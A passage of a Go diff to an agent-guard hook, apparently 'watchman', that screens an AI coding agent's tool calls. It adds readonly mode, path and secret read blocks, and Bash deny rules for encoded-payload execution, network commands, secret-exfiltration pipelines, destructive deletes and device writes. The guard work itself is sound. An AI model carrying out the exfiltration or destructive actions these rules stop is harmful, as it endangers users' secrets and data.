@@ -3,9 +3,13 @@ package hook
 
 import (
 	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 
 	"github.com/adrianpk/watchman/internal/config"
+	"github.com/adrianpk/watchman/internal/glob"
 	"github.com/adrianpk/watchman/internal/parser"
 	"github.com/adrianpk/watchman/internal/policy"
 	"github.com/adrianpk/watchman/internal/state"
@@ -18,19 +22,48 @@ type Input struct {
 	ToolInput map[string]interface{}
 }
 
-// Result represents the evaluation result.
+// Result represents the evaluation result. Ask marks a disallowed result
+// that should prompt the user for confirmation instead of a hard deny.
 type Result struct {
 	Allowed bool
-	Reason  string
-	Warning string
+	Ask     bool
+	// Code is a stable machine-readable identifier for the check that
+	// produced a deny/ask decision (see codes.go). Empty when allowed.
+	Code     string
+	Reason   string
+	Warnings []Warning
+}
+
+// Warning is a single advisory attached to an allowed result, carrying the
+// source that produced it: a rule name (incremental, require_tests), a
+// reminder, a config diagnostic, or an external hook's name.
+type Warning struct {
+	Source  string `json:"source"`
+	Message string `json:"message"`
+}
+
+// Warning returns every warning joined with "; ", the single-string form
+// older consumers of the result relied on.
+func (r Result) Warning() string {
+	if len(r.Warnings) == 0 {
+		return ""
+	}
+	parts := make([]string, len(r.Warnings))
+	for i, w := range r.Warnings {
+		parts[i] = w.Message
+	}
+	return strings.Join(parts, "; ")
 }
 
 // Evaluator evaluates hook inputs against configured rules.
 type Evaluator struct {
 	cfg          *config.Config
+	tools        *policy.ToolClasses
+	protector    *policy.Protector
 	hookMatcher  *HookMatcher
 	hookExec     *HookExecutor
 	stateManager *state.Manager
+	warnedConfig bool
 }
 
 // NewEvaluator creates a new hook evaluator.
@@ -38,28 +71,97 @@ func NewEvaluator(cfg *config.Config) *Evaluator {
 	sm := state.NewManager()
 	_ = sm.Load() // Ignore error, use fresh state if load fails
 
+	if cfg.Protect.ConfigFilename != nil {
+		policy.SetFilenameProtection(*cfg.Protect.ConfigFilename)
+	}
+	policy.SetGetwdFailOpen(cfg.Workspace.OnGetwdError == "fail_open")
+
 	return &Evaluator{
 		cfg:          cfg,
+		tools:        policy.NewToolClasses(&cfg.Tools),
+		protector:    policy.NewProtector(&cfg.Protect),
 		hookMatcher:  NewHookMatcher(),
 		hookExec:     NewHookExecutor(),
 		stateManager: sm,
 	}
 }
 
-// Evaluate processes the hook input and returns a result.
+// Evaluate processes the hook input and returns a result. Deny reasons are
+// rendered through config-defined message templates when one exists for the
+// decision code.
 func (e *Evaluator) Evaluate(input Input) Result {
+	input.ToolName = e.canonicalToolName(input.ToolName)
+	result := e.evaluate(input)
+	if !result.Allowed {
+		result.Reason = e.renderMessage(result, input)
+		if result.Code != "" {
+			e.stateManager.RecordDeny(result.Code)
+			_ = e.stateManager.Save()
+		}
+	}
+	return result
+}
+
+// canonicalToolName resolves tools.aliases so externally renamed tools
+// (e.g. str_replace_editor for Edit) keep the built-in classification.
+func (e *Evaluator) canonicalToolName(name string) string {
+	for alias, canonical := range e.cfg.Tools.Aliases {
+		if strings.EqualFold(alias, name) {
+			return canonical
+		}
+	}
+	return name
+}
+
+// renderMessage applies the messages template configured for the result's
+// code, substituting {path}, {rule} and {reason}. Without a template the
+// built-in reason passes through unchanged.
+func (e *Evaluator) renderMessage(result Result, input Input) string {
+	template, ok := e.cfg.Messages[result.Code]
+	if !ok {
+		return result.Reason
+	}
+
+	path := ""
+	if paths := ExtractPaths(input.ToolName, input.ToolInput); len(paths) > 0 {
+		path = paths[0]
+	}
+
+	rendered := strings.ReplaceAll(template, "{path}", path)
+	rendered = strings.ReplaceAll(rendered, "{rule}", RuleForCode(result.Code))
+	rendered = strings.ReplaceAll(rendered, "{reason}", result.Reason)
+	return rendered
+}
+
+func (e *Evaluator) evaluate(input Input) Result {
+	timer := newStageTimer()
+	defer timer.report()
+
+	stop := timer.start("blocklists")
+
+	// Readonly mode short-circuits every modification before rule evaluation
+	if e.cfg.Mode == "readonly" {
+		if result := e.evaluateReadonly(input); !result.Allowed {
+			stop()
+			return result
+		}
+	}
+
 	// Check tool blocklist
 	if e.isToolBlocked(input.ToolName) {
-		return Result{Allowed: false, Reason: "tool is blocked by configuration: " + input.ToolName}
+		stop()
+		return Result{Allowed: false, Code: CodeToolBlocked, Reason: "tool is blocked by configuration: " + input.ToolName}
 	}
 
 	// Check tool allowlist
 	if !e.isToolAllowed(input.ToolName) {
-		return Result{Allowed: false, Reason: "tool is not in allowed list: " + input.ToolName}
+		stop()
+		return Result{Allowed: false, Code: CodeToolNotAllowed, Reason: "tool is not in allowed list: " + input.ToolName}
 	}
 
 	// Non-filesystem tools are always allowed (but still track reminders)
-	if !isFilesystemTool(input.ToolName) {
+	if !e.tools.IsFilesystem(input.ToolName) {
+		stop()
 		return e.withReminders(Result{Allowed: true})
 	}
 
@@ -67,336 +169,1673 @@ func (e *Evaluator) Evaluate(input Input) Result {
 	if input.ToolName == "Bash" {
 		if cmd, ok := input.ToolInput["command"].(string); ok {
 			if blocked := e.isCommandBlocked(cmd); blocked != "" {
-				return Result{Allowed: false, Reason: "command is blocked by configuration: " + blocked}
+				stop()
+				return Result{Allowed: false, Code: CodeCommandBlocked, Reason: "command is blocked by configuration: " + blocked}
+			}
+			if e.cfg.Commands.BlockEncodedExec && isEncodedExec(cmd) {
+				stop()
+				return Result{Allowed: false, Code: CodeEncodedExec, Reason: "command decodes an encoded payload and pipes it into an interpreter"}
+			}
+			if e.cfg.Commands.BlockEval && isCommandInPosition(cmd, "eval") {
+				stop()
+				return Result{Allowed: false, Code: CodeEval, Reason: "eval executes dynamically constructed commands and is blocked by commands.block_eval"}
+			}
+			if e.cfg.Commands.BlockDangerousEnv || len(e.cfg.Commands.EnvAllow) > 0 {
+				if reason := findDisallowedEnv(cmd, e.cfg.Commands.EnvAllow, e.cfg.Commands.BlockDangerousEnv); reason != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeEnv, Reason: reason}
+				}
+			}
+			if e.cfg.Commands.BlockInstallScripts {
+				if install := findInstallWithScripts(cmd); install != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeInstallScripts, Reason: "package install may run install scripts: " + install + " (commands.block_install_scripts)"}
+				}
+			}
+			if e.cfg.Commands.BlockNetwork {
+				if network := findNetworkCommand(cmd, e.cfg.Commands.NetworkAllow); network != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeNetworkBlocked, Reason: "network command blocked by commands.block_network: " + network}
+				}
+			}
+			if e.cfg.Protect.BlockExfil && isExfilPipeline(cmd) {
+				stop()
+				return Result{Allowed: false, Code: CodeExfil, Reason: "pipeline reads secrets and sends them to a network command"}
+			}
+			if e.cfg.Protect.BlockDataLoss {
+				if destructive := findDestructiveOperation(cmd); destructive != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeDataLoss, Reason: "destructive operation blocked by data-loss guard: " + destructive}
+				}
+			}
+			if e.cfg.Protect.MaxDeleteDepth > 0 {
+				if target := shallowRecursiveDelete(cmd, e.cfg.Protect.MaxDeleteDepth); target != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeDeleteDepth, Reason: "recursive delete of " + target + " reaches above protect.max_delete_depth"}
+				}
+			}
+			// Writes to device files are destructive regardless of
+			// configuration; deny them unconditionally.
+			if device := findDeviceWrite(cmd); device != "" {
+				stop()
+				return Result{Allowed: false, Code: CodeDeviceWrite, Reason: "write to device file: " + device + " (only /dev/null, /dev/stdout and /dev/stderr are permitted)"}
+			}
+			if e.cfg.Protect.BlockSetuid {
+				if op := findSetuidOperation(cmd); op != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeSetuid, Reason: "command sets setuid/setgid bits: " + op}
+				}
+			}
+			if e.cfg.Protect.BlockRecursivePerms {
+				if op := findRecursivePerms(cmd); op != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeRecursivePerms, Reason: "recursive permission change blocked by protect.block_recursive_perms: " + op}
+				}
+			}
+			if e.cfg.Protect.Self {
+				if op := findSelfTamper(cmd); op != "" {
+					stop()
+					return Result{Allowed: false, Code: CodeSelfTamper, Reason: "command tampers with watchman itself: " + op}
+				}
 			}
 		}
 	}
+	stop()
 
 	// Check protected paths
 	paths := ExtractPaths(input.ToolName, input.ToolInput)
 	for _, p := range paths {
-		if policy.IsAlwaysProtected(p) {
-			return Result{Allowed: false, Reason: "path is protected and cannot be accessed. User must perform this action manually."}
+		if e.protector.IsProtected(p) {
+			return Result{Allowed: false, Code: CodeProtectedPath, Reason: "path is protected and cannot be accessed. User must perform this action manually."}
+		}
+	}
+
+	// Exact tool+path exceptions short-circuit to allow
+	if e.matchesException(input.ToolName, paths) {
+		return e.withReminders(Result{Allowed: true})
+	}
+
+	// Check config-defined protected categories
+	if result := e.evaluateProtectCategories(paths); !result.Allowed {
+		return result
+	}
+
+	// Guard infra files (CI/CD, Dockerfiles, Terraform, k8s manifests)
+	if e.cfg.Protect.Infra && e.tools.IsModifying(input.ToolName) {
+		if result := e.evaluateInfra(paths); !result.Allowed {
+			return result
 		}
 	}
 
+	// Deny reads of read-blocked paths for non-modifying filesystem tools
+	if result := e.evaluateReadBlock(input, paths); !result.Allowed {
+		return result
+	}
+
 	// Apply workspace rule
 	if e.cfg.Rules.Workspace {
-		if result := e.evaluateWorkspace(input); !result.Allowed {
+		stop = timer.start("workspace")
+		result := e.evaluateWorkspace(input)
+		stop()
+		if !result.Allowed {
 			return result
 		}
 	}
 
 	// Apply scope rule
 	if e.cfg.Rules.Scope {
-		if result := e.evaluateScope(input); !result.Allowed {
+		stop = timer.start("scope")
+		result := e.evaluateScope(input)
+		stop()
+		if !result.Allowed {
 			return result
 		}
 	}
 
 	// Apply versioning rule
 	if e.cfg.Rules.Versioning && input.ToolName == "Bash" {
-		if result := e.evaluateVersioning(input); !result.Allowed {
+		stop = timer.start("versioning")
+		result := e.evaluateVersioning(input)
+		stop()
+		if !result.Allowed {
 			return result
+		} else if len(result.Warnings) > 0 {
+			return e.withReminders(result)
 		}
 	}
 
 	// Apply incremental rule
-	if e.cfg.Rules.Incremental && isModificationTool(input.ToolName) {
-		if result := e.evaluateIncremental(); !result.Allowed {
+	if e.cfg.Rules.Incremental && (e.tools.IsModifying(input.ToolName) || bashModifiesInPlace(input)) {
+		stop = timer.start("incremental")
+		result := e.evaluateIncremental()
+		if result.Allowed {
+			if budgetResult := e.evaluateByteBudget(input); !budgetResult.Allowed {
+				result = budgetResult
+			}
+		}
+		stop()
+		if !result.Allowed {
 			return result
-		} else if result.Warning != "" {
+		} else if len(result.Warnings) > 0 {
 			return e.withReminders(result)
 		}
 	}
 
-	// Apply invariants rule
-	if e.cfg.Rules.Invariants && isModificationTool(input.ToolName) {
-		if result := e.evaluateInvariants(input); !result.Allowed {
+	// Deny overwriting existing files under protect.no_overwrite globs
+	if len(e.cfg.Protect.NoOverwrite) > 0 && e.tools.IsModifying(input.ToolName) {
+		if result := e.evaluateNoOverwrite(input); !result.Allowed {
 			return result
 		}
 	}
 
-	// Apply external hooks
-	if len(e.cfg.Hooks) > 0 {
-		if result := e.evaluateHooks(input); !result.Allowed {
+	// Scan write content for likely secrets
+	if e.cfg.Protect.ScanSecrets && e.tools.IsModifying(input.ToolName) {
+		stop = timer.start("secrets")
+		result := e.evaluateSecretScan(input)
+		stop()
+		if !result.Allowed {
 			return result
-		} else if result.Warning != "" {
-			return e.withReminders(result)
 		}
 	}
 
-	// Check reminders (post-execution, always runs for allowed operations)
-	return e.evaluateReminders()
-}
+	// Apply invariants rule
+	if e.cfg.Rules.Invariants && e.tools.IsModifying(input.ToolName) {
+		stop = timer.start("invariants")
+		result := e.evaluateInvariants(input)
+		stop()
+		if !result.Allowed {
+			return result
+		}
+	}
 
-func (e *Evaluator) evaluateWorkspace(input Input) Result {
-	rule := policy.NewConfineToWorkspace(&e.cfg.Workspace)
-	paths := ExtractPaths(input.ToolName, input.ToolInput)
-	for _, p := range paths {
-		parsed := parser.Command{Args: []string{p}}
-		decision := rule.Evaluate(parsed)
-		if !decision.Allowed {
-			return Result{Allowed: false, Reason: decision.Reason}
+	// Apply invariants to heredoc-delivered writes and rm deletions via Bash
+	if e.cfg.Rules.Invariants && input.ToolName == "Bash" {
+		stop = timer.start("invariants")
+		result := e.evaluateHeredocInvariants(input)
+		if result.Allowed {
+			result = e.evaluateDeleteInvariants(input)
+		}
+		stop()
+		if !result.Allowed {
+			return result
 		}
 	}
-	return Result{Allowed: true}
-}
 
-func (e *Evaluator) evaluateScope(input Input) Result {
-	rule := policy.NewScopeToFiles(&e.cfg.Scope)
-	paths := ExtractPaths(input.ToolName, input.ToolInput)
-	for _, p := range paths {
-		parsed := parser.Command{Args: []string{p}}
-		decision := rule.Evaluate(input.ToolName, parsed)
-		if !decision.Allowed {
-			return Result{Allowed: false, Reason: decision.Reason}
+	// Warn when a non-test Go source is written without a test companion
+	var pipelineWarnings []Warning
+	if e.cfg.Rules.RequireTests && e.tools.IsModifying(input.ToolName) {
+		if warning := e.requireTestsWarning(input); warning != "" {
+			pipelineWarnings = append(pipelineWarnings, Warning{Source: "require_tests", Message: warning})
 		}
 	}
-	return Result{Allowed: true}
-}
 
-func (e *Evaluator) evaluateVersioning(input Input) Result {
-	cmd, ok := input.ToolInput["command"].(string)
-	if !ok {
-		return Result{Allowed: true}
+	// Apply external hooks, telling them which warnings preceded them
+	if len(e.cfg.Hooks) > 0 {
+		stop = timer.start("hooks")
+		result := e.evaluateHooks(input, pipelineWarnings)
+		stop()
+		if !result.Allowed {
+			return result
+		}
+		pipelineWarnings = append(pipelineWarnings, result.Warnings...)
 	}
-	rule := policy.NewVersioningRule(&e.cfg.Versioning)
-	decision := rule.Evaluate(cmd)
-	return Result{Allowed: decision.Allowed, Reason: decision.Reason}
-}
 
-func (e *Evaluator) evaluateIncremental() Result {
-	rule := policy.NewIncrementalRule(&e.cfg.Incremental)
-	decision := rule.Evaluate()
-	return Result{Allowed: decision.Allowed, Reason: decision.Reason, Warning: decision.Warning}
+	// Check reminders (post-execution, always runs for allowed operations)
+	return e.withReminders(Result{Allowed: true, Warnings: pipelineWarnings})
 }
 
-func (e *Evaluator) evaluateInvariants(input Input) Result {
-	rule := policy.NewInvariantsRule(&e.cfg.Invariants)
-	paths := ExtractPaths(input.ToolName, input.ToolInput)
-
-	// Get content for content-based checks
-	content := ""
-	if c, ok := input.ToolInput["content"].(string); ok {
-		content = c
+// evaluateReadonly denies modification tools and mutating Bash commands
+// under mode: readonly, leaving read-only tools and safe Bash untouched.
+func (e *Evaluator) evaluateReadonly(input Input) Result {
+	if e.tools.IsModifying(input.ToolName) {
+		return Result{Allowed: false, Code: CodeReadonly, Reason: "watchman is in readonly mode: " + input.ToolName + " is not permitted"}
 	}
-
-	for _, p := range paths {
-		decision := rule.Evaluate(input.ToolName, p, content)
-		if !decision.Allowed {
-			return Result{Allowed: false, Reason: decision.Reason}
+	if input.ToolName == "Bash" {
+		if cmd, ok := input.ToolInput["command"].(string); ok {
+			if op := readonlyBashViolation(cmd); op != "" {
+				return Result{Allowed: false, Code: CodeReadonly, Reason: "watchman is in readonly mode: command mutates state (" + op + ")"}
+			}
 		}
 	}
 	return Result{Allowed: true}
 }
 
-func (e *Evaluator) evaluateHooks(input Input) Result {
-	paths := ExtractPaths(input.ToolName, input.ToolInput)
+// mutatingCommands are programs that create, move or remove files.
+var mutatingCommands = map[string]bool{
+	"rm": true, "rmdir": true, "mv": true, "cp": true, "touch": true,
+	"mkdir": true, "dd": true, "truncate": true, "shred": true, "ln": true,
+}
 
-	cwd, err := os.Getwd()
-	if err != nil {
-		cwd = ""
-	}
+// mutatingGitSubcommands are git/jj operations that alter history or the
+// working tree.
+var mutatingGitSubcommands = map[string]bool{
+	"commit": true, "push": true, "merge": true, "rebase": true,
+	"reset": true, "checkout": true, "add": true, "rm": true,
+	"tag": true, "cherry-pick": true, "stash": true,
+}
 
-	hookInput := HookInput{
-		ToolName:   input.ToolName,
-		ToolInput:  input.ToolInput,
-		Paths:      paths,
-		WorkingDir: cwd,
+// readonlyBashViolation returns a description of the first mutating operation
+// in a Bash command, or "" when the command only reads. Redirections are
+// treated as mutating wholesale; quoted > characters produce conservative
+// false positives, which readonly mode accepts.
+func readonlyBashViolation(cmd string) string {
+	if hw, ok := parser.ExtractHeredocWrite(cmd); ok {
+		return "heredoc write to " + hw.Target
+	}
+	if targets := teeTargets(cmd); len(targets) > 0 {
+		return "tee " + targets[0]
 	}
 
-	var warnings []string
-
-	for i := range e.cfg.Hooks {
-		hookCfg := &e.cfg.Hooks[i]
+	for _, seg := range splitCommandSegments(cmd) {
+		name := extractCommandName(seg)
+		if mutatingCommands[name] {
+			return name
+		}
+		if name == "git" || name == "jj" {
+			for _, tok := range tokenize(strings.TrimSpace(seg))[1:] {
+				if strings.HasPrefix(tok, "-") {
+					continue
+				}
+				if mutatingGitSubcommands[tok] {
+					return name + " " + tok
+				}
+				break
+			}
+		}
+		if strings.Contains(seg, ">") {
+			return "output redirection"
+		}
+	}
+	return ""
+}
 
-		if !e.hookMatcher.Matches(hookCfg, input.ToolName, paths) {
-			continue
+// matchesException reports whether the tool and every extracted path exactly
+// match a configured exception pair. Exceptions are deliberately narrow: no
+// globs, no prefix matching.
+func (e *Evaluator) matchesException(toolName string, paths []string) bool {
+	if len(e.cfg.Exceptions) == 0 || len(paths) == 0 {
+		return false
+	}
+	for _, p := range paths {
+		matched := false
+		for _, exc := range e.cfg.Exceptions {
+			if strings.EqualFold(exc.Tool, toolName) && exc.Path == p {
+				matched = true
+				break
+			}
+		}
+		if !matched {
+			return false
 		}
+	}
+	return true
+}
 
-		result := e.hookExec.Execute(hookCfg, hookInput)
+// evaluateProtectCategories checks paths against config-defined protected
+// categories, denying with the category's custom message on match.
+// defaultInfraPaths are the globs guarded by protect.infra when
+// protect.infra_paths does not override them. Bare filename patterns match
+// by basename, so nested Dockerfiles are covered too.
+var defaultInfraPaths = []string{
+	".github/workflows/**",
+	".gitlab-ci.yml",
+	"Dockerfile",
+	"docker-compose.yml",
+	"*.tf",
+	"k8s/**",
+}
 
-		if !result.Allowed {
+// evaluateInfra applies protect.infra to modification targets: matching
+// paths are denied, or surfaced as ask when on_infra is "ask".
+func (e *Evaluator) evaluateInfra(paths []string) Result {
+	patterns := e.cfg.Protect.InfraPaths
+	if len(patterns) == 0 {
+		patterns = defaultInfraPaths
+	}
+	for _, p := range paths {
+		if glob.MatchAny(p, patterns) {
 			return Result{
 				Allowed: false,
-				Reason:  hookCfg.Name + ": " + result.Reason,
+				Ask:     e.cfg.Protect.OnInfra == "ask",
+				Code:    CodeInfra,
+				Reason:  "infra file is protected by protect.infra: " + p,
 			}
 		}
-
-		if result.Warning != "" {
-			warnings = append(warnings, hookCfg.Name+": "+result.Warning)
-		}
 	}
+	return Result{Allowed: true}
+}
 
-	if len(warnings) > 0 {
-		return Result{Allowed: true, Warning: strings.Join(warnings, "; ")}
+func (e *Evaluator) evaluateProtectCategories(paths []string) Result {
+	for _, cat := range e.cfg.Protect.Categories {
+		for _, p := range paths {
+			if glob.MatchAny(p, cat.Patterns) {
+				msg := cat.Message
+				if msg == "" {
+					msg = "path is protected by category: " + cat.Name
+				}
+				return Result{Allowed: false, Code: CodeProtectedCategory, Reason: msg}
+			}
+		}
 	}
-
 	return Result{Allowed: true}
 }
 
-func (e *Evaluator) evaluateReminders() Result {
-	if len(e.cfg.Reminders) == 0 {
+// evaluateReadBlock denies non-modifying filesystem tools (Read, Grep, Glob)
+// access to paths matching read.block globs. Scope governs writes; this list
+// keeps in-repo secrets like .env out of reach of read-only tools too.
+func (e *Evaluator) evaluateReadBlock(input Input, paths []string) Result {
+	if len(e.cfg.Read.Block) == 0 {
+		return Result{Allowed: true}
+	}
+	if input.ToolName == "Bash" || e.tools.IsModifying(input.ToolName) {
 		return Result{Allowed: true}
 	}
 
-	// Increment task count
-	e.stateManager.IncrementTaskCount()
+	for _, p := range paths {
+		if glob.MatchAny(p, e.cfg.Read.Block) {
+			return Result{
+				Allowed: false,
+				Code:    CodeReadBlocked,
+				Reason:  "path matches read.block and cannot be read: " + p,
+			}
+		}
+	}
 
-	// Check if any reminders should trigger
-	triggered := e.stateManager.CheckReminders(e.cfg.Reminders)
+	// A Glob pattern can target blocked files without naming one directly
+	// (e.g. **/*.env reaches .env). Test each block entry against the
+	// pattern itself, so search patterns covering blocked names are denied.
+	if input.ToolName == "Glob" {
+		if pattern, ok := input.ToolInput["pattern"].(string); ok {
+			for _, blocked := range e.cfg.Read.Block {
+				if glob.Match(blocked, pattern) {
+					return Result{
+						Allowed: false,
+						Code:    CodeReadBlocked,
+						Reason:  "glob pattern " + pattern + " covers read-blocked " + blocked,
+					}
+				}
+			}
+		}
+	}
+	return Result{Allowed: true}
+}
 
-	// Save state (ignore errors, non-critical)
-	_ = e.stateManager.Save()
+func (e *Evaluator) evaluateWorkspace(input Input) Result {
+	rule := policy.NewConfineToWorkspace(&e.cfg.Workspace)
+	rule.Protector = e.protector
 
-	if len(triggered) > 0 {
-		return Result{
-			Allowed: true,
-			Warning: strings.Join(triggered, "; "),
+	// Bash commands are evaluated as a whole so the rule can see the program
+	// and classify arguments (e.g. cp/mv source vs destination).
+	if input.ToolName == "Bash" {
+		if cmdStr, ok := input.ToolInput["command"].(string); ok {
+			parsed := e.stripToolAllowedPaths(input.ToolName, parser.Parse(cmdStr))
+			decision := rule.Evaluate(parsed)
+			if !decision.Allowed {
+				return Result{Allowed: false, Code: CodeWorkspace, Reason: decision.Reason}
+			}
+			return Result{Allowed: true}
 		}
 	}
 
+	paths := ExtractPaths(input.ToolName, input.ToolInput)
+	for _, p := range paths {
+		if e.isToolPathAllowed(input.ToolName, p) {
+			continue
+		}
+		parsed := parser.Command{Args: []string{p}}
+		decision := rule.Evaluate(parsed)
+		if !decision.Allowed {
+			return Result{Allowed: false, Code: CodeWorkspace, Reason: decision.Reason}
+		}
+	}
 	return Result{Allowed: true}
 }
 
-// withReminders combines a result with any triggered reminders.
-// Should be called for all allowed operations to ensure reminders are tracked.
-func (e *Evaluator) withReminders(result Result) Result {
-	if !result.Allowed {
-		return result
+// stripToolAllowedPaths removes candidates covered by tools.path_allow from a
+// parsed command so they bypass workspace confinement.
+func (e *Evaluator) stripToolAllowedPaths(toolName string, cmd parser.Command) parser.Command {
+	if len(e.cfg.Tools.PathAllow) == 0 {
+		return cmd
 	}
-
-	reminderResult := e.evaluateReminders()
-	if reminderResult.Warning != "" {
-		if result.Warning != "" {
-			result.Warning = result.Warning + "; " + reminderResult.Warning
-		} else {
-			result.Warning = reminderResult.Warning
+	kept := make([]string, 0, len(cmd.Args))
+	for _, a := range cmd.Args {
+		if !e.isToolPathAllowed(toolName, a) {
+			kept = append(kept, a)
 		}
 	}
-	return result
+	cmd.Args = kept
+	for k, v := range cmd.Flags {
+		if v != "" && e.isToolPathAllowed(toolName, v) {
+			cmd.Flags[k] = ""
+		}
+	}
+	for k, v := range cmd.Env {
+		if e.isToolPathAllowed(toolName, v) {
+			delete(cmd.Env, k)
+		}
+	}
+	return cmd
 }
 
-func (e *Evaluator) isToolBlocked(tool string) bool {
-	for _, t := range e.cfg.Tools.Block {
-		if strings.EqualFold(t, tool) {
-			return true
+// isToolPathAllowed checks if tools.path_allow grants this tool access to the
+// path, bypassing workspace confinement for that tool only.
+func (e *Evaluator) isToolPathAllowed(toolName, path string) bool {
+	for tool, patterns := range e.cfg.Tools.PathAllow {
+		if strings.EqualFold(tool, toolName) {
+			return glob.MatchAny(path, patterns)
 		}
 	}
 	return false
 }
 
-func (e *Evaluator) isToolAllowed(tool string) bool {
-	if len(e.cfg.Tools.Allow) == 0 {
-		return true
+// bashModifiesInPlace reports whether a Bash command edits files in place
+// (sed -i, perl -i), making it a modification for incremental purposes.
+func bashModifiesInPlace(input Input) bool {
+	if input.ToolName != "Bash" {
+		return false
 	}
-	for _, t := range e.cfg.Tools.Allow {
-		if strings.EqualFold(t, tool) {
-			return true
-		}
+	cmdStr, ok := input.ToolInput["command"].(string)
+	if !ok {
+		return false
 	}
-	return false
+	return len(inPlaceEditTargets(cmdStr)) > 0
 }
 
-func (e *Evaluator) isCommandBlocked(cmd string) string {
-	for _, pattern := range e.cfg.Commands.Block {
-		// Patterns with spaces (like "rm -rf /") use substring matching
-		if strings.Contains(pattern, " ") {
-			if strings.Contains(cmd, pattern) {
-				return pattern
+func (e *Evaluator) evaluateScope(input Input) Result {
+	rule := policy.NewScopeToFiles(&e.cfg.Scope)
+	rule.Classes = e.tools
+	// Session-scoped overrides added via `watchman scope add` widen the allow
+	// list for the duration of the session.
+	rule.Allow = append(rule.Allow, e.stateManager.ScopeAllow()...)
+
+	// Bash isn't a modifying tool, but tee writes to its file arguments;
+	// check those as Write destinations.
+	if input.ToolName == "Bash" {
+		if cmdStr, ok := input.ToolInput["command"].(string); ok {
+			targets := append(teeTargets(cmdStr), inPlaceEditTargets(cmdStr)...)
+			for _, target := range targets {
+				decision := rule.Evaluate("Write", parser.Command{Args: []string{target}})
+				if !decision.Allowed {
+					return Result{Allowed: false, Code: CodeScope, Reason: decision.Reason}
+				}
 			}
-			continue
 		}
+		return Result{Allowed: true}
+	}
 
-		// Single-word patterns match only in command position
-		if isCommandInPosition(cmd, pattern) {
-			return pattern
+	paths := ExtractPaths(input.ToolName, input.ToolInput)
+	for _, p := range paths {
+		parsed := parser.Command{Args: []string{p}}
+		decision := rule.Evaluate(input.ToolName, parsed)
+		if !decision.Allowed {
+			return Result{Allowed: false, Code: CodeScope, Reason: decision.Reason}
 		}
 	}
-	return ""
+	return Result{Allowed: true}
 }
 
-// isCommandInPosition checks if pattern appears as an actual command
-// (first token of a pipeline/chain segment), not as an argument.
-func isCommandInPosition(cmd, pattern string) bool {
-	// Split by command separators: |, &&, ||, ;
-	// We iterate through segments to find command positions
-	segments := splitCommandSegments(cmd)
-
+func (e *Evaluator) evaluateVersioning(input Input) Result {
+	cmd, ok := input.ToolInput["command"].(string)
+	if !ok {
+		return Result{Allowed: true}
+	}
+	if e.cfg.Versioning.RestrictAddScope && e.cfg.Rules.Scope {
+		if result := e.evaluateAddScope(cmd); !result.Allowed {
+			return result
+		}
+	}
+	rule := policy.NewVersioningRule(&e.cfg.Versioning)
+	decision := rule.Evaluate(cmd)
+	result := Result{Allowed: decision.Allowed, Ask: decision.Ask, Reason: decision.Reason}
+	if decision.Warning != "" {
+		result.Warnings = []Warning{{Source: "versioning", Message: decision.Warning}}
+	}
+	if !result.Allowed {
+		result.Code = CodeVersioning
+	}
+	return result
+}
+
+// changedFiles lists working-tree changes for restrict_add_scope checks.
+// Declared as a variable so tests can inject canned listings.
+var changedFiles = policy.ChangedFiles
+
+// evaluateAddScope denies mass git add commands (-A, --all or .) that would
+// stage files outside the configured scope.
+func (e *Evaluator) evaluateAddScope(cmd string) Result {
+	if !isMassGitAdd(cmd) {
+		return Result{Allowed: true}
+	}
+
+	rule := policy.NewScopeToFiles(&e.cfg.Scope)
+	rule.Classes = e.tools
+	rule.Allow = append(rule.Allow, e.stateManager.ScopeAllow()...)
+
+	for _, p := range changedFiles() {
+		decision := rule.Evaluate("Write", parser.Command{Args: []string{p}})
+		if !decision.Allowed {
+			return Result{
+				Allowed: false,
+				Code:    CodeVersioning,
+				Reason:  "git add would stage out-of-scope file " + p + " (versioning.restrict_add_scope)",
+			}
+		}
+	}
+	return Result{Allowed: true}
+}
+
+// isMassGitAdd reports whether any segment stages the whole working tree.
+func isMassGitAdd(cmd string) bool {
+	for _, seg := range splitCommandSegments(cmd) {
+		parsed := parser.Parse(strings.TrimSpace(seg))
+		if parsed.Program != "git" || parsed.Subcommand != "add" {
+			continue
+		}
+		if parsed.HasFlag("-A") || parsed.HasFlag("--all") {
+			return true
+		}
+		for _, arg := range parsed.Args {
+			if arg == "." {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func (e *Evaluator) evaluateIncremental() Result {
+	rule := policy.NewIncrementalRule(&e.cfg.Incremental, &e.cfg.Git, e.cfg.DefaultWarnRatio)
+	decision := rule.Evaluate()
+	result := Result{Allowed: decision.Allowed, Reason: decision.Reason}
+	if decision.Warning != "" {
+		result.Warnings = []Warning{{Source: "incremental", Message: decision.Warning}}
+	}
+	if !result.Allowed {
+		result.Code = CodeIncremental
+	}
+	return result
+}
+
+// evaluateByteBudget tracks cumulative bytes written this session and denies
+// writes that would exceed incremental.session_byte_budget. Denied writes do
+// not count toward the total.
+func (e *Evaluator) evaluateByteBudget(input Input) Result {
+	budget := e.cfg.Incremental.SessionByteBudget
+	if budget <= 0 {
+		return Result{Allowed: true}
+	}
+
+	size := writeContentSize(input)
+	if e.stateManager.SessionBytes()+size > budget {
+		return Result{
+			Allowed: false,
+			Code:    CodeByteBudget,
+			Reason:  "session byte budget exceeded: writing " + strconv.Itoa(size) + " bytes would pass the " + strconv.Itoa(budget) + "-byte limit, reset state to continue",
+		}
+	}
+
+	e.stateManager.AddSessionBytes(size)
+	_ = e.stateManager.Save()
+	return Result{Allowed: true}
+}
+
+// writeContent returns the content a modification tool would write.
+func writeContent(input Input) string {
+	switch input.ToolName {
+	case "Write":
+		if c, ok := input.ToolInput["content"].(string); ok {
+			return c
+		}
+	case "Edit":
+		if c, ok := input.ToolInput["new_string"].(string); ok {
+			return c
+		}
+	case "NotebookEdit":
+		if c, ok := input.ToolInput["new_source"].(string); ok {
+			return c
+		}
+	}
+	return ""
+}
+
+// writeContentSize returns the content length a modification tool would write.
+func writeContentSize(input Input) int {
+	return len(writeContent(input))
+}
+
+// evaluateNoOverwrite allows creating new files under protect.no_overwrite
+// globs but denies modifying ones that already exist on disk.
+func (e *Evaluator) evaluateNoOverwrite(input Input) Result {
+	for _, p := range ExtractPaths(input.ToolName, input.ToolInput) {
